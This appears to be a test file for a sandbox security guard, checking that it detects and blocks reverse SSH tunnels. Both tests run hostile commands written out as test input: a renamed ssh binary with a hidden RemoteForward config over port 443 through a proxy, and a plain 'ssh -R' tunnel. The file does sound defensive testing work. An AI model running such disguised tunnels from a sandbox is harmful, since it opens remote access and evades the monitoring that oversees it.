// A reverse SSH tunnel over port 443 through the proxy is cut and alerted on the SSH banner, even
// when the destination's domain is allowed and the ssh binary is renamed with its -R hidden in a
// config file; a plain `ssh -R` is caught by its argv and killed.
import { after, before, it } from 'node:test';
import * as assert from 'node:assert/strict';
import { bash, startGuardWorld, summary, waitForAlerts, type GuardWorld } from '../../testing/guard-world.js';

let world: GuardWorld;
before(async () => {
  world = await startGuardWorld();
});
after(() => world.close());

function proxyCommand(hostAddress: string): string {
  return `ncat --proxy ${hostAddress}:3128 --proxy-type http %h %p`;
}

it('a disguised reverse tunnel over 443 is cut on the SSH banner and tied to its step', async () => {
  const sandbox = await world.backend.create({ allowDomains: ['tunnel.example.test'] });
  const { hostAddress } = sandbox.hostInfo();
  const config = [
    'Host tunnel.example.test',
    '  Port 443',
    '  User tunnel',
    '  RemoteForward 2222 localhost:22',
    `  ProxyCommand ${proxyCommand(hostAddress)}`,
    '  BatchMode yes',
    '  StrictHostKeyChecking no',
    '  UserKnownHostsFile /dev/null',
    '  ConnectTimeout 5',
  ].join('\n');
  await sandbox.writeFile('/workspace/.sync.conf', `${config}\n`);
  const r = await bash(sandbox, 'cp "$(command -v ssh)" ./sync-agent && ./sync-agent -F .sync.conf -N tunnel.example.test');
  assert.notEqual(r.exitCode, 0, 'the tunnel did not come up');
  const alerts = await waitForAlerts(world, sandbox, (all) =>
    all.some((a) => a.evidence.some((e) => e.kind === 'proxy-connection' && e.protocol === 'ssh')),
  );
  const banner = alerts.find((a) => a.evidence.some((e) => e.kind === 'proxy-connection' && e.protocol === 'ssh'));
  assert.ok(banner, `alert on the SSH banner: ${summary(alerts)}`);
  assert.ok(['T1572', 'T1090'].includes(banner.technique), banner.technique);
  assert.equal(banner.step, r.step);
  await world.guard.settle();
  assert.ok(
    world.guard.actions(sandbox.id).some((a) => a.action === 'deny-stream' && a.target === 'tunnel.example.test:443'),
    JSON.stringify(world.guard.actions(sandbox.id)),
  );
  assert.equal(world.fakes.received.ssh, 0, 'no client byte reached the SSH server');
  // and the destination stays closed for the rest of the sandbox's life
  const again = await bash(sandbox, `curl -s -o /dev/null -w "%{http_connect}" -p -x ${sandbox.hostInfo().proxyUrl} http://tunnel.example.test:443/`);
  assert.equal(again.stdout.toString(), '403');
});

it('a plain ssh -R is alerted on its argv and killed', async () => {
  const sandbox = await world.backend.create({ allowDomains: ['tunnel.example.test'] });
  const { hostAddress } = sandbox.hostInfo();
  const r = await bash(
    sandbox,
    `ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5 ` +
      `-o ProxyCommand='${proxyCommand(hostAddress)}' -N -R 2222:localhost:22 -p 443 tunnel@tunnel.example.test`,
  );
  assert.notEqual(r.exitCode, 0);
  const alerts = await waitForAlerts(world, sandbox, (all) => all.some((a) => a.technique === 'T1572'));
  const flag = alerts.find((a) => a.technique === 'T1572' && a.evidence.some((e) => e.kind === 'process-start'));
  assert.ok(flag, `alert on ssh -R: ${summary(alerts)}`);
  assert.equal(flag.step, r.step);
  await world.guard.settle();
  assert.ok(world.guard.actions(sandbox.id).some((a) => a.action === 'kill-tree' && a.ok));
});
